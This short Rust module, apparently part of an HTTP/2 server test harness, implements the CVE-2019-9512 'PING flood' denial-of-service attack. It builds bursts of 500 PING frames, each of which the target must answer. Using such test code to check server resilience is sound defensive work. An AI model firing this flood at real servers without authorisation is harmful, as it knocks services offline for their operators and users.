//! CVE-2019-9512: pings without end, each of which has to be answered.

use super::Attack;
use crate::support::h2::frame;

const FRAMES: usize = 500;

pub(super) fn attack() -> Attack {
    Attack::flood("PING flood", frame::opening(&[]), burst)
}

fn burst(_: u32) -> Vec<u8> {
    let mut one = Vec::new();
    frame::push(&mut one, frame::PING, 0, 0, b"annoying");
    one.repeat(FRAMES)
}
